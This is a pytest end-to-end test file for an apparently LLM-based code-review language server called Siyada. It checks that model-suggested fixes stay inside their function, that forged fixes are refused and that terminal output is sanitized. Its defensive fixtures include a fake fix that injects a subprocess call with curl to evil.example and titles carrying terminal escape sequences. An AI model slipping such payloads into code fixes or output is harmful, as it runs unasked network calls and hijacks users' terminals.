"""No answer is trusted (cases 4 to 7): unusable answers are asked for again, fixes stay
inside their function, model text cannot drive a terminal, and text no encoder accepts
is still reviewed. The real server process and `siyada check` against the double."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

from lsprotocol import types
from pytest_lsp import LanguageClient

from tests.e2e.conftest import (
    MODEL,
    code_actions,
    finding,
    initialize,
    open_document,
    run_siyada,
    wait_for_diagnostics,
    wait_for_message,
)
from tests.model_server import OllamaDouble

AVERAGE = (
    "import os\n\n\ndef average(items):\n    total = sum(items)\n    return total / len(items)\n"
)
EVIDENCE = "    return total / len(items)"
# The reported fix: its later lines land at module level.
SHELL_OUT = f"{EVIDENCE}\nimport subprocess\nsubprocess.run(['curl', 'https://evil.example'])"
BENIGN = "    return total / len(items) if items else 0.0"
HOSTILE_TITLE = "\x1b[2J\x1b]0;pwned\x07Division by zero"


def _save(client: LanguageClient, uri: str) -> None:
    client.text_document_did_save(
        types.DidSaveTextDocumentParams(text_document=types.TextDocumentIdentifier(uri=uri))
    )


def _check(*args: str) -> subprocess.CompletedProcess[str]:
    return run_siyada("check", *args, timeout=60)


# ----- case 4 ---------------------------------------------------------------------------


async def test_case4_prose_then_a_valid_answer_on_save_yields_the_finding(
    client: LanguageClient, double: OllamaDouble, tmp_path: Path
) -> None:
    double.add_rule("def average", content="This function looks correct to me.", times=1)
    double.add_rule("def average", content={"findings": [finding(EVIDENCE)]})
    await initialize(client, endpoint=double.url)
    uri = open_document(client, tmp_path / "m.py", AVERAGE)

    message = await wait_for_message(client, lambda m: "could not be used" in m)
    assert "average" in message
    assert len(double.chat_requests) == 1
    _save(client, uri)

    (diagnostic,) = await wait_for_diagnostics(client, uri, lambda d: len(d) == 1)
    assert diagnostic.range.start.line == 5
    assert len(double.chat_requests) == 2
    assert len([m for m in client.messages if "could not be used" in m.message]) == 1


async def test_case4_cut_off_answer_is_skipped_until_the_function_changes(
    client: LanguageClient, double: OllamaDouble, tmp_path: Path
) -> None:
    double.add_rule("len(items)\n", content={"findings": []}, done_reason="length")
    double.add_rule("def average", content={"findings": [finding("    return total / count")]})
    await initialize(client, endpoint=double.url, triggers={"onType": False})
    uri = open_document(client, tmp_path / "m.py", AVERAGE)
    await wait_for_message(client, lambda m: "cut off" in m)

    _save(client, uri)  # not asked again: the same text would be cut off again
    edited = AVERAGE.replace("total / len(items)", "total / count")
    client.text_document_did_change(
        types.DidChangeTextDocumentParams(
            text_document=types.VersionedTextDocumentIdentifier(uri=uri, version=2),
            content_changes=[types.TextDocumentContentChangeWholeDocument(text=edited)],
        )
    )
    _save(client, uri)

    await wait_for_diagnostics(client, uri, lambda d: len(d) == 1)
    asked = [r["messages"][-1]["content"] for r in double.chat_requests]
    assert len(asked) == 2 and "total / count" in asked[1]
    assert len([m for m in client.messages if "cut off" in m.message]) == 1


# ----- case 5 ---------------------------------------------------------------------------


async def test_case5_hostile_fix_is_shown_without_its_edit(
    client: LanguageClient, double: OllamaDouble, tmp_path: Path
) -> None:
    double.add_rule(
        "def average",
        content={"findings": [finding(EVIDENCE, title="Division by zero", replacement=SHELL_OUT)]},
    )
    await initialize(client, endpoint=double.url)
    uri = open_document(client, tmp_path / "m.py", AVERAGE)
    (diagnostic,) = await wait_for_diagnostics(client, uri, lambda d: len(d) == 1)

    assert diagnostic.data["replacement"] is None
    actions = await code_actions(client, uri, diagnostic)
    assert [a.title for a in actions] == [
        "Siyada: Ignore this bug finding",
        "Siyada: Dismiss this finding",
        "Siyada: Ask about this finding",
        "Siyada: Ignore in this file",
    ]


async def test_case5_forged_fix_on_a_real_diagnostic_is_refused(
    client: LanguageClient, double: OllamaDouble, tmp_path: Path
) -> None:
    double.add_rule("def average", content={"findings": [finding(EVIDENCE, replacement=BENIGN)]})
    await initialize(client, endpoint=double.url)
    uri = open_document(client, tmp_path / "m.py", AVERAGE)
    (diagnostic,) = await wait_for_diagnostics(client, uri, lambda d: len(d) == 1)
    offered = await code_actions(client, uri, diagnostic)
    # The benign fix is offered, then "Ignore", "Dismiss", "Ask" and "Ignore in this file".
    assert [a.is_preferred for a in offered] == [True, False, False, False, False]

    diagnostic.data = {**diagnostic.data, "replacement": SHELL_OUT.replace("\n", "\n    ")}
    actions = await code_actions(client, uri, diagnostic)

    # Data Siyada never published gets no action at all, not even "Ignore".
    assert actions == []


def test_case5_check_json_omits_a_fix_that_is_not_local(tmp_path: Path) -> None:
    (tmp_path / "m.py").write_text(AVERAGE)
    whole = finding("def average(items):\n" + "    total = sum(items)\n" + EVIDENCE)
    whole["replacement"], whole["title"] = "pass", "Whole function"
    with OllamaDouble(models=[MODEL]) as double:
        double.add_rule(
            "def average",
            content={
                "findings": [
                    finding(EVIDENCE, title="Shell out", replacement=SHELL_OUT),
                    whole,
                    finding(EVIDENCE, title="Benign", category="security", replacement=BENIGN),
                ]
            },
        )
        result = _check(str(tmp_path), "--format", "json", "--endpoint", double.url)

    assert result.returncode == 1, result.stderr
    fixes = {entry["title"]: entry.get("replacement") for entry in json.loads(result.stdout)}
    assert fixes == {"Shell out": None, "Whole function": None, "Benign": BENIGN}


# ----- case 6 ---------------------------------------------------------------------------


def test_case6_check_prints_no_escape_sequence(tmp_path: Path) -> None:
    (tmp_path / "m.py").write_text(AVERAGE)
    hostile = finding(EVIDENCE, title=HOSTILE_TITLE)
    hostile["explanation"] = "\x1b]0;pwned\x07Empty lists\r\ndivide by zero.\x9b2J"
    with OllamaDouble(models=[MODEL]) as double:
        double.add_rule("def average", content={"findings": [hostile]})
        text = _check(str(tmp_path), "--endpoint", double.url)
        as_json = _check(str(tmp_path), "--format", "json", "--endpoint", double.url)

    assert text.returncode == 1, text.stderr
    assert "Division by zero (in average)" in text.stdout
    for output in (text.stdout, text.stderr, as_json.stdout):
        assert not any(c in output for c in "\x1b\x07\x9b\r"), repr(output)
    (entry,) = json.loads(as_json.stdout)
    assert entry["title"] == "Division by zero"
    assert entry["explanation"] == "Empty lists\ndivide by zero."


async def test_case6_diagnostic_text_is_clean_and_bounded(
    client: LanguageClient, double: OllamaDouble, tmp_path: Path
) -> None:
    hostile = finding(EVIDENCE, title=HOSTILE_TITLE + "\nand more")
    hostile["explanation"] = "Too long. " * 15_000  # 150,000 characters
    double.add_rule("def average", content={"findings": [hostile]})
    await initialize(client, endpoint=double.url)
    uri = open_document(client, tmp_path / "m.py", AVERAGE)

    (diagnostic,) = await wait_for_diagnostics(client, uri, lambda d: len(d) == 1)

    # The message is one line: the clean title and the first sentence.
    assert diagnostic.message == "Division by zero and more \u2014 Too long."
    # The hover shows the whole explanation, capped at 2,000 characters.
    hover = await client.text_document_hover_async(
        types.HoverParams(
            text_document=types.TextDocumentIdentifier(uri=uri), position=diagnostic.range.start
        )
    )
    assert hover is not None and isinstance(hover.contents, types.MarkupContent)
    explanation = hover.contents.value.split("\n\n")[2]
    assert len(explanation) == 2000 and explanation.endswith("\u2026")
    assert explanation.startswith("Too long. Too long.")
    assert "\x1b" not in hover.contents.value and "pwned" not in hover.contents.value


# ----- case 7 ---------------------------------------------------------------------------


async def test_case7_lone_surrogate_in_a_function_is_reviewed(
    client: LanguageClient, double: OllamaDouble, tmp_path: Path
) -> None:
    text = AVERAGE.replace("sum(items)", "sum(items)  # \ud800")
    double.add_rule("def average", content={"findings": [finding(EVIDENCE)]})
    await initialize(client, endpoint=double.url)
    uri = open_document(client, tmp_path / "m.py", text)

    (diagnostic,) = await wait_for_diagnostics(client, uri, lambda d: len(d) == 1)

    assert diagnostic.range.start.line == 5
    (request,) = double.chat_requests
    sent = request["messages"][-1]["content"]
    assert "sum(items)  # \ufffd" in sent and "\ud800" not in sent
